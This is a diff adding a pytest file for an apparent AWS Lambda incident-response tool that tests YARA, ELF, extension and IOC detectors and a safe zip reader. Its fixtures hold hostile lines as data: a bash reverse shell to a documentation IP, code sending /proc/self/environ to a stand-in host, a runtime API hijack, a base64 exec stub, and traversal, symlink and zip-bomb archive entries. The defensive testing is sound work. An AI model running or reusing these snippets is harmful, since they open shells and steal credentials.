@@ -1,0 +1,221 @@
+"""Code detectors (YARA-X, ELF, extensions, IOCs) and the bounded zip reader."""
+
+from __future__ import annotations
+
+import hashlib
+import io
+import stat
+import zipfile
+from pathlib import Path
+
+import pytest
+
+from lambda_ir.analyze.archive import Limits, ReadReport, read_members
+from lambda_ir.analyze.detectors import code_elf, code_extension, code_yara, ioc_match
+from lambda_ir.model import Severity
+from tests.analyze.casebuild import (
+    ACCOUNT,
+    REGION,
+    CaseBuilder,
+    function_config,
+    run_detector,
+    trail_event,
+    zip_bytes,
+)
+
+ARN = f"arn:aws:lambda:{REGION}:{ACCOUNT}:function:orders"
+BENIGN = "import json\n\ndef handler(event, context):\n    return {'ok': json.dumps(event)}\n"
+# Fixtures built from each bundled rule's own strings (harmless text, never executed).
+SAMPLES = {
+    "LIR_Denonia_Lambda_Malware": b"\x7fELF...github.com/likexian/doh-go/provider/google..."
+    b"Mozilla/5.0 (compatible; Ezooms/1.0; help@moz.com)..."
+    b"username:password pair for mining server",
+    "LIR_Denonia_Lambda_Go_Traits": b"\x7fELF\x02\x01github.com/aws/aws-lambda-go/lambda "
+    b"github.com/likexian/doh-go",
+    "LIR_Cryptominer_Stratum_XMRig": b'{"url": "stratum+tcp://pool.example:3333"}',
+    "LIR_Reverse_Shell": b"import os\nos.system('bash -i >& /dev/tcp/203.0.113.5/4444 0>&1')\n",
+    "LIR_Credential_Harvest_Exfiltration": b"import urllib.request\n"
+    b"data = open('/proc/self/environ','rb').read()\n"
+    b"urllib.request.urlopen(urllib.request.Request('https://x.example', data))\n",
+    "LIR_Runtime_API_Hijack": b"import os, urllib.request\n"
+    b"api = os.environ['AWS_LAMBDA_RUNTIME_API']\n"
+    b"urllib.request.urlopen(f'http://{api}/2018-06-01/runtime/invocation/next')\n",
+    "LIR_Obfuscated_Payload": b"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
+}
+
+
+def _function_with(
+    builder: CaseBuilder, files: dict, runtime: str = "python3.12", layers: tuple[str, ...] = ()
+) -> str:
+    blob = zip_bytes(files)
+    entry = builder.code(blob, "orders")
+    builder.versions(
+        "orders", [function_config("orders", code=blob, runtime=runtime, layers=layers)]
+    )
+    return entry.path
+
+
+@pytest.mark.parametrize("rule", sorted(SAMPLES))
+def test_each_bundled_rule_fires_on_its_sample(builder: CaseBuilder, rule: str) -> None:
+    path = _function_with(builder, {"app.py": BENIGN, "lib/x.bin": SAMPLES[rule]})
+    found = run_detector(builder, code_yara.DETECTOR)
+    assert [f.detector for f in found] == [f"yara:{rule}"]
+    assert found[0].evidence[0].path == path and found[0].evidence[0].member == "lib/x.bin"
+    assert found[0].resource == ARN + ":$LATEST"
+    assert found[0].severity.rank >= Severity.MEDIUM.rank
+
+
+def test_benign_code_is_quiet(builder: CaseBuilder) -> None:
+    _function_with(builder, {"app.py": BENIGN, "README.md": "stratum is a word"})
+    assert run_detector(builder, code_yara.DETECTOR) == []
+
+
+def test_contexts_suppress_sdk_and_custom_runtimes(builder: CaseBuilder) -> None:
+    _function_with(
+        builder,
+        {
+            "bootstrap": SAMPLES["LIR_Runtime_API_Hijack"],
+            "botocore/creds.py": SAMPLES["LIR_Credential_Harvest_Exfiltration"],
+        },
+        runtime="provided.al2023",
+    )
+    assert run_detector(builder, code_yara.DETECTOR) == []
+
+
+def test_user_rule_folder(builder: CaseBuilder, tmp_path: Path) -> None:
+    rules = tmp_path / "rules"
+    rules.mkdir()
+    (rules / "mine.yar").write_text(
+        'rule Team_Marker { meta: title = "team marker" severity = "low" '
+        'strings: $a = "CANARY-1234" condition: $a }'
+    )
+    _function_with(builder, {"app.py": BENIGN + "# CANARY-1234\n"})
+    found = run_detector(builder, code_yara.DETECTOR, yara_dirs=(rules,))
+    assert [(f.detector, f.severity, f.title) for f in found] == [
+        ("yara:Team_Marker", Severity.LOW, "team marker")
+    ]
+
+
+def test_elf_named_python_in_python_function(builder: CaseBuilder) -> None:
+    path = _function_with(
+        builder,
+        {
+            "app.py": BENIGN,
+            "python": b"\x7fELF\x02\x01\x01" + b"\0" * 64,
+            "lib/_speedups.cpython-312.so": b"\x7fELF\x02",
+        },
+    )
+    found = run_detector(builder, code_elf.DETECTOR)
+    assert [(f.details["member"], f.severity) for f in found] == [("python", Severity.HIGH)]
+    assert found[0].evidence[0].path == path
+
+
+def test_elf_in_custom_runtime_is_quiet(builder: CaseBuilder) -> None:
+    _function_with(builder, {"bootstrap": b"\x7fELF\x02\x01\x01"}, runtime="provided.al2")
+    assert run_detector(builder, code_elf.DETECTOR) == []
+
+
+def test_extension_in_layer(builder: CaseBuilder) -> None:
+    layer = f"arn:aws:lambda:{REGION}:{ACCOUNT}:layer:ext:1"
+    _, blob = builder.layer(
+        layer, zip_bytes({"extensions/spy": "#!/bin/sh\n", "python/lib/x.py": "x=1"})
+    )
+    _function_with(builder, {"app.py": BENIGN}, layers=(layer,))
+    found = run_detector(builder, code_extension.DETECTOR)
+    assert [f.details["member"] for f in found] == ["extensions/spy"]
+    assert found[0].resource == ARN + ":$LATEST"
+    assert (
+        found[0].evidence[0].path == blob.path and found[0].evidence[0].member == "extensions/spy"
+    )
+
+
+def test_layer_without_extensions_is_quiet(builder: CaseBuilder) -> None:
+    builder.layer(
+        f"arn:aws:lambda:{REGION}:{ACCOUNT}:layer:deps:1",
+        zip_bytes({"python/requests/api.py": "x=1"}),
+    )
+    assert run_detector(builder, code_extension.DETECTOR) == []
+
+
+def test_ioc_in_code_by_text_and_by_user_hash(builder: CaseBuilder, tmp_path: Path) -> None:
+    payload = b"\x7fELF fake sample"
+    iocs = tmp_path / "iocs.txt"
+    iocs.write_text(f"{hashlib.sha256(payload).hexdigest()}  # our sample\n")
+    path = _function_with(
+        builder,
+        {
+            "app.py": BENIGN + "URL='https://gw.denonia[.]xyz'\n".replace("[.]", "."),
+            "bin/x": payload,
+        },
+    )
+    found = run_detector(builder, ioc_match.DETECTOR, ioc_files=(iocs,))
+    by_member = {f.evidence[0].member: f for f in found}
+    assert by_member["app.py"].details["indicators"] == ["gw.denonia.xyz"]
+    assert by_member["bin/x"].severity is Severity.CRITICAL
+    assert all(f.evidence[0].path == path for f in found)
+
+
+def test_ioc_in_logs_and_trail(builder: CaseBuilder) -> None:
+    logs = builder.logs(
+        "/aws/lambda/orders",
+        [
+            {
+                "timestamp": 1764676800000,
+                "message": "connecting to 116.203.4.0:3333",
+                "logStreamName": "s1",
+            },
+            {"timestamp": 1764676801000, "message": "ok", "logStreamName": "s1"},
+        ],
+    )
+    trail = builder.trail(
+        [
+            trail_event(
+                "GetCallerIdentity", {}, source="sts.amazonaws.com", source_ip="162.55.241.99"
+            )
+        ]
+    )
+    found = run_detector(builder, ioc_match.DETECTOR)
+    assert {(f.evidence[0].path, f.details["indicator"]) for f in found} == {
+        (logs.path, "116.203.4.0"),
+        (trail.path, "162.55.241.99"),
+    }
+    assert next(f for f in found if f.evidence[0].path == logs.path).resource == ARN
+
+
+def test_ioc_quiet_on_clean_case(builder: CaseBuilder) -> None:
+    _function_with(builder, {"app.py": BENIGN})
+    builder.logs("/aws/lambda/orders", [{"timestamp": 1, "message": "116.203.4.01 denonia.xyzz"}])
+    assert run_detector(builder, ioc_match.DETECTOR) == []
+
+
+def _raw_zip(entries: list[tuple[zipfile.ZipInfo, bytes]]) -> bytes:
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as archive:
+        for info, data in entries:
+            archive.writestr(info, data)
+    return buf.getvalue()
+
+
+def test_reader_refuses_bombs_and_skips_links() -> None:
+    link = zipfile.ZipInfo("evil-link")
+    link.external_attr = (stat.S_IFLNK | 0o777) << 16
+    bomb = zipfile.ZipInfo("bomb.txt")
+    bomb.compress_type = zipfile.ZIP_DEFLATED
+    package = _raw_zip(
+        [
+            (zipfile.ZipInfo("../../etc/passwd"), b"x"),
+            (link, b"/etc/shadow"),
+            (bomb, b"\0" * 5_000_000),
+            (zipfile.ZipInfo("ok.py"), b"print(1)"),
+        ]
+    )
+    report = ReadReport()
+    names = [m.name for m in read_members(package, Limits(max_ratio=100), report)]
+    assert names == ["../../etc/passwd", "ok.py"]  # read as data only, never written anywhere
+    assert any("bomb.txt" in s and "ratio" in s for s in report.skipped)
+    report = ReadReport()
+    assert list(read_members(b"not a zip", report=report)) == [] and report.skipped
+    small = ReadReport()
+    assert [m.name for m in read_members(package, Limits(max_member=4), small)] == [
+        "../../etc/passwd"
+    ]
